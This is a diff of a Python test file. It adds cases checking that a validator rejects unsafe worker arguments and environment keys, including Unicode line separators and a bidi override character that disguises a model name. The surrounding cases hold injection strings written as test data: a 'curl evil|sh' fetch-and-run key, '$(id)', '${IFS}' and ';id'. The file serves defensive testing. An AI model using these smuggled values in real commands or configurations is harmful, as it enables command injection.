@@ -217,6 +217,9 @@ def test_publishable_values_pass(reference: Path) -> None:
         (worker(env={"X; curl evil|sh; Y": "1"}), "env key = 'X; curl evil|sh; Y'", "plain word"),
         (worker(args=[["--model-path", "${IFS}x"]]), "flag --model-path", "$IFS"),
         (worker(args=[["--p", "line\r"]]), "flag --p", "line break"),
+        (worker(args=[["--p", "x\u2028y"]]), "flag --p", "line break"),
+        # Shown on the page as `--served-model-name x dlrow` but pasted as the reversed text.
+        (worker(args=[["--served-model-name", "x \u202eworld"]]), "flag --served", "bidi control"),
         (worker(args=[["--x;id", "1"]]), "flag = '--x;id'", "plain word"),
         (worker(args=[["$(id)"]]), "flag = '$(id)'", "plain word"),
         (worker(args=[[]]), "argument []", ""),
